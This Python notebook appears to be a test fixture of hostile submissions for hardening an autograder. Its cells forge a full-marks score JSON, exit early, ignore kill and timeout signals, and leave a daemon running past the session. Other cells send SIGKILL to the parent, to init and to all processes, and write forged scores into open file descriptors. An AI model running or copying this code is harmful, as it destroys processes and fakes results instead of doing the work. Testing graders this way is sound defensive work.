# %% [markdown]
# Attack, issue 6 list 4: taking control of the process. `sigmoid` is honest (2 points); every
# other cell and function tries to end, outlive, stall or signal its way to a better score.
# The test replaces __MARKER__ so that any process left behind can be found.

# %%
__assignment__ = "backprop"
import os
import signal
import sys
import threading
import time

import numpy as np

MARKER = "__MARKER__"


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))


FAKE = '{"score": 18.0, "max_score": 18.0, "full_marks": true, "questions": []}'

# %%
sys.exit(0)

# %%
raise SystemExit(0)

# %%
raise KeyboardInterrupt

# %%
import atexit

atexit.register(lambda: (print(FAKE), os.write(1, FAKE.encode()), os.write(2, FAKE.encode())))
print(FAKE)
sys.stderr.write(FAKE)

# %%
for _sig in (signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU, signal.SIGINT, signal.SIGHUP):
    signal.signal(_sig, signal.SIG_IGN)
signal.alarm(0)


# %%
def _daemon():
    """Double fork, setsid, and keep running under a recognisable name."""
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execv("/bin/sleep", [MARKER, "1000"])
            os._exit(0)
    except OSError as exc:
        print("fork refused:", exc)


_daemon()

# %%
os.kill(os.getppid(), signal.SIGKILL)

# %%
os.kill(1, signal.SIGKILL)

# %%
os.kill(-1, signal.SIGKILL)

# %%
os._exit(0)


# %%
def forward(x, w1, b1, w2, b2):
    if np.ndim(x) == 0:
        raise SystemExit(0)
    for sig in (signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU):
        signal.signal(sig, signal.SIG_IGN)
    signal.alarm(0)
    while True:
        pass


def backward(x, y, w1, b1, w2, b2):
    time.sleep(10**6)


def _late_writer():
    time.sleep(0.3)
    for fd in range(3, 12):
        try:
            os.write(fd, b"GRW1\xff\xff\xff\xff" + FAKE.encode() * 10)
        except OSError:
            pass


def backward_batch(X, Y, W1, b1, W2, b2):
    if len(Y) == 5:
        threading.Thread(target=_late_writer).start()
        _daemon()
        return {"W1": np.zeros_like(W1), "b1": np.zeros_like(b1), "W2": np.zeros_like(W2),
                "b2": 0.0}
    os._exit(0)

# %%
raise KeyboardInterrupt
